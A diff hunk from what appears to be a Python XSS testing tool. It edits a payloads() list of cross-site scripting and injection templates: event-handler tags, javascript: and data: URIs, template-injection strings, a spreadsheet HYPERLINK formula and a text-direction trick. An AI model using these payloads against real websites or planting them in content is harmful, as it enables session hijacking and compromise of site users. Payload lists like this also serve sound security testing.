@@ -172,7 +172,7 @@ def payloads():
              "<input autofocus onfocus=\"{}\">", "<details open ontoggle=\"{}\">", "<video><source onerror=\"{}\">",
              "<iframe srcdoc=\"<script>parent.ran=1</script>\" title=\"{}\">", "javascript:{}",
              "data:text/html,<script>{}</script>", "<a href=\"javascript:{}\">x</a>",
-             "<math><mtext><style><img src=x onerror=\"{}\">", "{{{{constructor.constructor('{}')()}}}}", "${{{}}}",
+             "<math><mtext><style><img src=x onerror=\"{}\">", "{{{{constructor.constructor('{}')()}}}}", "<select autofocus onfocus=\"{}\">",
              "<!--><script>{}</script>-->", "]]><script>{}</script>", "<form action=\"javascript:{}\"><button>",
              "<object data=\"javascript:{}\">", "<meta http-equiv=refresh content=\"0;url=javascript:{}\">",
              "<base href=\"javascript:{}//\">", "\u202e<script>{}</script>", "=HYPERLINK(\"javascript:{}\")",
